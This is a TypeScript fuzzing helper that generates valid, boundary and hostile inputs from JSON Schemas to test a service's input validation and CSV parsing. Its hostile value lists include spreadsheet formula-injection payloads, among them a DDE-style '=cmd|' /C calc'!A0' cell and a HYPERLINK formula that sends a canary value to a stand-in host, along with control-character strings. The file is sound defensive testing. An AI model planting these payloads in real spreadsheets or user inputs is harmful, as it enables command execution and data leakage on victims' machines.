/**
 * The fuzzer's view of a JSON Schema (the subset zod emits for this service's inputs: `type`, `enum`,
 * bounds, `pattern`, `anyOf`, arrays, strict objects): fast-check arbitraries of valid, boundary and hostile
 * values for one field, and the two verdicts the oracle needs:
 * - {@link jsonVerdict}: does a JSON value match the schema as `tools/list` and OpenAPI publish it (no
 *   coercion: `true` is not an integer, `[90]` is not an integer);
 * - {@link queryVerdict}: does a query-string value match it under the documented grammar (decimal numbers).
 */
import fc from 'fast-check';
import { LP_COLUMNS } from '../../lib/calculators/nav-validator.ts';

/** A JSON Schema object (as zod's `toJSONSchema` writes it). */
export type Schema = Record<string, unknown>;

/**
 * A canary: a unique string planted in a submitted value; no error answer may contain it. Letters and
 * digits only, so that URL and JSON encoding leave it as it is.
 */
export const canary = fc.stringMatching(/^[a-z0-9]{10}$/).map((s) => `kz${s}q`);
/** Finds every canary in a text. */
export const CANARY_PATTERN = /kz[a-z0-9]{10}q/g;

function bounds(s: Schema): { min?: number; max?: number; minExcl: boolean; maxExcl: boolean } {
  const minExcl = typeof s.exclusiveMinimum === 'number';
  const maxExcl = typeof s.exclusiveMaximum === 'number';
  return {
    min: (minExcl ? s.exclusiveMinimum : s.minimum) as number | undefined,
    max: (maxExcl ? s.exclusiveMaximum : s.maximum) as number | undefined,
    minExcl,
    maxExcl,
  };
}

/** The types a schema allows (`anyOf` flattened). */
function alternatives(s: Schema): Schema[] {
  return Array.isArray(s.anyOf) ? (s.anyOf as Schema[]).flatMap(alternatives) : [s];
}

/** True when `value` (a parsed JSON value) matches `s`. */
export function jsonVerdict(s: Schema, value: unknown): boolean {
  if (Array.isArray(s.anyOf)) return (s.anyOf as Schema[]).some((alt) => jsonVerdict(alt, value));
  if (Array.isArray(s.enum) && !(s.enum as unknown[]).includes(value)) return false;
  switch (s.type) {
    case 'null':
      return value === null;
    case 'boolean':
      return typeof value === 'boolean';
    case 'string':
      return typeof value === 'string' && (typeof s.pattern !== 'string' || new RegExp(s.pattern, 'u').test(value));
    case 'integer':
    case 'number': {
      if (typeof value !== 'number' || !Number.isFinite(value)) return false;
      if (s.type === 'integer' && !Number.isInteger(value)) return false;
      const b = bounds(s);
      if (b.min !== undefined && (b.minExcl ? value <= b.min : value < b.min)) return false;
      if (b.max !== undefined && (b.maxExcl ? value >= b.max : value > b.max)) return false;
      return true;
    }
    case 'array':
      return (
        Array.isArray(value) &&
        (typeof s.maxItems !== 'number' || value.length <= s.maxItems) &&
        value.every((item) => jsonVerdict((s.items as Schema) ?? {}, item))
      );
    case 'object': {
      if (typeof value !== 'object' || value === null || Array.isArray(value)) return false;
      const props = (s.properties as Record<string, Schema>) ?? {};
      const record = value as Record<string, unknown>;
      if (s.additionalProperties === false && Object.keys(record).some((k) => !(k in props))) return false;
      if (((s.required as string[]) ?? []).some((k) => !(k in record))) return false;
      return Object.entries(record).every(([k, v]) => !(k in props) || jsonVerdict(props[k]!, v));
    }
    default:
      return true;
  }
}

/**
 * Whether a query-string value matches a parameter's schema under the documented grammar: numbers are
 * plain decimals (`-12`, `0.99`); hex, binary, octal, `Infinity`, `NaN` and the empty string are not.
 * @returns `unsure` for spellings the documentation does not settle (`+5`, ` 5`, `1e2`, `05`, `5.0` for an
 *   integer), which the oracle does not judge
 */
export function queryVerdict(s: Schema, value: string): 'valid' | 'invalid' | 'unsure' {
  const verdicts = alternatives(s).map((alt): 'valid' | 'invalid' | 'unsure' => {
    if (alt.type === 'integer' || alt.type === 'number') {
      if (/^-?(0|[1-9]\d*)(\.\d+)?$/.test(value)) {
        const n = Number(value);
        if (alt.type === 'integer' && !/^-?\d+$/.test(value)) return Number.isInteger(n) ? 'unsure' : 'invalid';
        return jsonVerdict(alt, n) ? 'valid' : 'invalid';
      }
      if (/^\s*[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?\s*$/i.test(value)) return jsonVerdict(alt, Number(value)) ? 'unsure' : 'invalid';
      return 'invalid';
    }
    if (alt.type === 'string') return jsonVerdict(alt, value) ? 'valid' : 'invalid';
    return 'unsure';
  });
  return verdicts.includes('valid') ? 'valid' : verdicts.includes('unsure') ? 'unsure' : 'invalid';
}

/** Text a hostile user types: unicode of every plane, NUL, control characters, right-to-left marks, formulas. */
export const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(
    '\u0000',
    'a\u0000b',
    '\uFEFF',
    '\r\n',
    '\u202Eevil',
    '\uD800',
    '=1+1',
    '@SUM(A1)',
    '+cmd|x',
    '-2+3',
    '\t=x',
    '%',
    '...',
    '∞',
    'NaN',
    'null',
    '1e309',
    '0x10',
  ),
  canary,
  canary.map((c) => `=HYPERLINK("http://x/?${c}")`),
);

/** A date `YYYY-MM-DD` near the synthetic funds' data, or a well-shaped one that does not exist. */
export const dateText = fc.oneof(
  fc
    .date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true })
    .map((d) => d.toISOString().slice(0, 10)),
  fc.constantFrom('2026-02-30', '0000-00-00', '9999-12-31', '2026-10-20', '2026-09-30', '1970-01-01'),
);

/** Values within the schema (at and near its bounds). */
export function validValue(s: Schema, name = ''): fc.Arbitrary<unknown> {
  if (Array.isArray(s.anyOf)) return fc.oneof(...(s.anyOf as Schema[]).map((alt) => validValue(alt, name)));
  if (Array.isArray(s.enum)) return fc.constantFrom(...(s.enum as unknown[]));
  switch (s.type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer': {
      const b = bounds(s);
      const min = b.min === undefined ? -1e6 : b.minExcl ? b.min + 1 : b.min;
      const max = b.max === undefined ? 1e6 : b.maxExcl ? b.max - 1 : b.max;
      return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min, max));
    }
    case 'number': {
      const b = bounds(s);
      const min = b.min ?? -1e15;
      const max = b.max ?? 1e15;
      const edges = [
        b.minExcl ? min + Number.EPSILON * Math.max(1, Math.abs(min)) : min,
        b.maxExcl ? max - 1 : max,
        0,
        1,
        0.01,
        -0.01,
        1e-9,
      ].filter((v) => jsonVerdict(s, v));
      return fc.oneof(
        fc.double({ min, max, noNaN: true, noDefaultInfinity: true, minExcluded: b.minExcl, maxExcluded: b.maxExcl }),
        fc.integer({ min: Math.ceil(Math.max(min, -1e6)), max: Math.floor(Math.min(max, 1e6)) }).filter((v) => jsonVerdict(s, v)),
        fc.constantFrom(...edges),
      );
    }
    case 'string':
      if (typeof s.pattern === 'string' && s.pattern.includes('\\d{4}-')) return dateText;
      if (/csv$/i.test(name)) return csvText(name);
      return fc.oneof(hostileText, fc.lorem({ maxCount: 30 }));
    case 'array':
      return fc.array(validValue((s.items as Schema) ?? {}), { maxLength: typeof s.maxItems === 'number' ? s.maxItems : 10 });
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Values of the wrong type or out of bounds: the oracle decides with {@link jsonVerdict} whether each must be refused. */
export function hostileValue(s: Schema): fc.Arbitrary<unknown> {
  const numeric = alternatives(s).find((alt) => alt.type === 'number' || alt.type === 'integer');
  const extra: fc.Arbitrary<unknown>[] = [];
  if (numeric) {
    const b = bounds(numeric);
    const outside = [
      b.min !== undefined ? b.min - 1 : -1e308,
      b.max !== undefined ? b.max + 1 : 1e308,
      b.min ?? 0,
      b.max ?? 0,
      1.5,
      -0,
      1e308,
      -1e308,
      Number.MAX_SAFE_INTEGER + 2,
      5e-324,
    ];
    extra.push(
      fc.constantFrom(...outside),
      fc.constantFrom('90', '0x10', '1e2', ' 5', 'Infinity', 'NaN', ''),
      validValue(numeric).map((v) => [v]),
    );
  }
  return fc.oneof(
    canary,
    fc.constantFrom<unknown>(true, false, null, {}, [], 0, -1, [null], { value: 1 }),
    fc.jsonValue({ maxDepth: 3 }),
    ...extra,
  );
}

/** Header row of a CSV field as its description documents it: the NAV validator's LP rows, else positions. */
function csvHeader(name: string): string[] {
  return /^lp/i.test(name) ? [...LP_COLUMNS] : ['Asset', 'Value', 'Venue', 'Class'];
}

const csvCell = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.double({ min: -1e9, max: 1e9, noNaN: true, noDefaultInfinity: true }).map((n) => String(Math.round(n * 100) / 100)),
  },
  { weight: 2, arbitrary: fc.constantFrom('BTC', 'ETH', 'Coinbase', 'Crypto', '"250,000"', '', ' ', '1,000', '$5', '(100)', '1e3', '-0') },
  { weight: 2, arbitrary: hostileText.map((t) => (/[",\r\n]/.test(t) ? `"${t.replace(/"/g, '""')}"` : t)) },
  { weight: 1, arbitrary: fc.constantFrom('"unterminated', 'a"b', '""', '"x""y"', '\u0000', "=cmd|' /C calc'!A0") },
);

/**
 * CSV text for a field: its header (or a mangled one), rows of numbers, quoted fields, formula-injection
 * and NUL cells, ragged rows, `\n` or `\r\n` line ends, an optional BOM.
 */
export function csvText(name: string): fc.Arbitrary<string> {
  const header = csvHeader(name);
  return fc
    .record({
      bom: fc.boolean(),
      eol: fc.constantFrom('\n', '\r\n', '\r'),
      head: fc.oneof(
        { weight: 5, arbitrary: fc.constant(header) },
        { weight: 1, arbitrary: fc.shuffledSubarray(header).map((h) => h.map((x) => x.toUpperCase())) },
      ),
      rows: fc.array(fc.array(csvCell, { minLength: header.length - 1, maxLength: header.length + 1 }), { maxLength: 12 }),
      trailing: fc.boolean(),
    })
    .map(
      ({ bom, eol, head, rows, trailing }) =>
        `${bom ? '\uFEFF' : ''}${[head.join(','), ...rows.map((r) => r.join(','))].join(eol)}${trailing ? eol : ''}`,
    );
}

/** A CSV of exactly `rows` data rows (10,000 is the documented cap; 10,001 must be refused). */
export function csvOfRows(name: string, rows: number): string {
  const header = csvHeader(name);
  const row = header.map((h, i) => (i === 0 ? 'X' : /value|usd/i.test(h) ? '100' : 'V')).join(',');
  return [header.join(','), ...Array.from({ length: rows }, () => row)].join('\n');
}
